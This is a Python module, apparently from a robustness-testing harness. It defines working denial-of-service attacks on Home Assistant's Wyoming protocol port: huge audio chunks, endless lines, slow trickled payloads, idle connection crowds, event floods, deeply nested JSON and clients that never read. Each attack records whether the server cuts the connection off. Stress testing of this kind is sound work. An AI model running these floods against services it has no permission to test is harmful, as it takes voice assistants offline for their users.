"""Wyoming: lines, payloads and floods on the port of Home Assistant's protocol."""

import contextlib
import json
import threading

from .catalogue import attack
from .payloads import MB
from .target import Target

FORMAT = {"rate": 8000, "width": 1, "channels": 1}
CROWD = 530


def _event(kind: str, data: object = None, payload: bytes = b"") -> bytes:
    header = {"type": kind, "data": data or {}, "payload_length": len(payload)}
    return json.dumps(header).encode() + b"\n" + payload


START = _event("transcribe") + _event("audio-start", FORMAT)
CHUNK = _event("audio-chunk", FORMAT, bytes(4 * MB))


def _flood(target: Target, *pieces: bytes) -> None:
    """Write the pieces, the last one over and over, and read all that comes."""
    with target.connect(target.wyoming_port) as client:

        def read() -> None:
            with contextlib.suppress(OSError):
                while client.recv(1 << 16):
                    pass

        threading.Thread(target=read, daemon=True).start()
        for data in pieces:
            target.write(client, data)
        while target.running and target.write(client, pieces[-1]):
            pass
        target.count("cut off" if target.running else "kept")


@attack()
def wyoming_chunks(target: Target) -> None:
    """chunks of 4 MB of unsigned audio at 8 kHz, three times"""
    target.together(3, lambda _: _flood(target, START, CHUNK))


@attack()
def wyoming_long_line(target: Target) -> None:
    """a first line that never ends"""
    target.again(4, lambda _: _flood(target, b'{"type": "' + b"a" * 4096))


@attack()
def wyoming_payload_trickled(target: Target) -> None:
    """100 clients with a payload of 4 MB of which a byte comes a second"""

    def send(_: int) -> None:
        with target.connect(target.wyoming_port) as client:
            target.write(client, START + CHUNK[:1000])
            while target.pause(1.0) and target.write(client, b"a"):
                pass
            target.count("cut off" if target.running else "kept")

    target.together(100, send)


@attack()
def wyoming_silent_crowd(target: Target) -> None:
    """530 connections that say nothing"""
    clients = []
    for _ in range(CROWD):
        with contextlib.suppress(OSError):
            clients.append(target.connect(target.wyoming_port))
    target.hold(clients)


@attack()
def wyoming_floods(target: Target) -> None:
    """small events as fast as four clients can send them, answers read"""
    kinds = ("ping", "describe", "unknown", "ping")
    target.together(4, lambda number: _flood(target, _event(kinds[number], {"text": "a"}) * 500))


@attack()
def wyoming_json(target: Target) -> None:
    """events whose data is a megabyte of JSON, deep or of numbers"""
    deep = b"[" * (MB - 10)
    wide = b'{"a":[' + b"1.0," * (MB // 4 - 9) + b"1]}"
    header = '{"type": "ping", "data_length": %d}\n'
    events = [(header % len(data)).encode() + data for data in (deep, wide)]
    target.again(4, lambda number: _flood(target, events[number % 2]))


@attack()
def wyoming_unread(target: Target) -> None:
    """clients that ask for speech and descriptions and never read"""
    text = "the train to boston leaves at nine fifty. " * 1000
    data = _event("synthesize", {"text": text}) + _event("describe") * 10_000
    clients = []
    for _ in range(4):
        client = target.connect(target.wyoming_port)
        target.write(client, data)
        clients.append(client)
    target.hold(clients)
